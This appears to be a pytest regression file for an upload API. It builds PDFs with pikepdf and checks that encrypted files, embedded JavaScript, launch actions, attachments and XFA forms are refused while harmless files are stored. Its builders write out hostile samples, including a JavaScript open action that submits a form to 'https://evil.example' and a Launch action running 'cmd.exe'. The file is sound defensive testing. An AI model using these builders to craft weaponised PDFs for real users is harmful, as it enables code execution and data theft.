"""Finding 11: an encrypted PDF carrying JavaScript was accepted, and a harmless PDF was refused.

The hand-written sniffer skipped encrypted streams, so a PDF with an empty user password and
document-level JavaScript packed in an object stream went through; and it refused any
``/OpenAction``, even the harmless ``[page /Fit]`` many producers write. PDFs are now read with
qpdf (pikepdf). Every file here is made by pikepdf itself, the way a real producer writes it
(object streams, cross-reference streams, encryption), and is uploaded through
``POST /api/v1/cases/{id}/materials``: dangerous ones get a 422 problem with a stable code naming
the field and nothing is saved; harmless ones are stored.
"""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.cases.support import BASE_ANSWERS, materials_to_upload
from tests.security.support import OTHER_USCC, bearer, session_token
from tests.security.test_uploads import stored


def _javascript(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def made(build: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    """A one-page PDF written by pikepdf with object streams, after ``build`` changed it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if build:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, **save)
    return out.getvalue()


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(_javascript("app.alert('hi')"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))


def _open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(_javascript("this.submitForm('https://evil.example')"))


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([50, 50, 200, 80]), Border=Array([0, 0, 0]))
    link.A = action
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))


def _page_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(_javascript("app.beep(0)")))


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["readme.txt"] = pikepdf.AttachedFileSpec(pdf, b"hello", mime_type="text/plain")


def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)


def _fit_page(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def _goto_and_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.XYZ, 0, 842, 1]))
    _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.fujian.gov.cn/")))


REFUSED: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    # the probe's file: empty user password, document JavaScript packed in an object stream
    "encrypted, empty user password, document JavaScript": (
        lambda: made(_names_javascript, encryption=pikepdf.Encryption(owner="owner", user="", R=6)),
        "encrypted_material",
    ),
    "encrypted with a password to open it": (
        lambda: made(encryption=pikepdf.Encryption(owner="owner", user="secret", R=4, aes=True)),
        "encrypted_material",
    ),
    "document JavaScript in the names tree": (lambda: made(_names_javascript), "unsafe_material"),
    "JavaScript open action": (lambda: made(_open_action_javascript), "unsafe_material"),
    "JavaScript in a link annotation's action": (
        lambda: made(lambda pdf: _link(pdf, _javascript("app.alert(1)"))),
        "unsafe_material",
    ),
    "JavaScript in a page's additional actions": (lambda: made(_page_additional_action), "unsafe_material"),
    "launch action": (lambda: made(_launch), "unsafe_material"),
    "embedded file": (lambda: made(_embedded_file), "unsafe_material"),
    "XFA form": (lambda: made(_xfa), "unsafe_material"),
}

ACCEPTED: dict[str, Callable[[], bytes]] = {
    "open action [page /Fit]": lambda: made(_fit_page),
    "go-to open action and a web link": lambda: made(_goto_and_uri),
    "plain pages in object streams": lambda: made(),
}


@pytest.fixture(scope="module")
async def draft(live):
    """A draft of the applicant's own enterprise, ready for materials."""
    auth = bearer(await session_token(live.client, "applicant-p002"))
    created = await live.client.post("/api/v1/cases", json={"uscc": OTHER_USCC}, headers=auth)
    assert created.status_code == 201, created.text
    case_id = created.json()["id"]
    view = (await live.client.patch(f"/api/v1/cases/{case_id}", json={"answers": BASE_ANSWERS}, headers=auth)).json()
    return {"case_id": case_id, "auth": auth, "code": materials_to_upload(view["plan"])[0]}


async def _upload(live, draft, content: bytes):
    return await live.client.post(
        f"/api/v1/cases/{draft['case_id']}/materials",
        data={"code": draft["code"]},
        files={"file": ("材料.pdf", content, "application/pdf")},
        headers=draft["auth"],
    )


@pytest.mark.parametrize("name", list(REFUSED))
async def test_finding11_dangerous_pdfs_are_refused_with_a_problem(live, draft, name):
    make, code = REFUSED[name]
    content = make()
    before = await stored(draft["case_id"])
    response = await _upload(live, draft, content)
    assert response.status_code == 422, (name, response.status_code, response.text[:300])
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["code"] == code and problem["errors"][0]["field"] == "file", (name, problem)
    assert await stored(draft["case_id"]) == before


@pytest.mark.parametrize("name", list(ACCEPTED))
async def test_finding11_harmless_pdfs_are_accepted(live, draft, name):
    before = await stored(draft["case_id"])
    response = await _upload(live, draft, ACCEPTED[name]())
    assert response.status_code == 201, (name, response.text[:300])
    assert response.json()["media_type"] == "application/pdf"
    assert await stored(draft["case_id"]) == before + 1
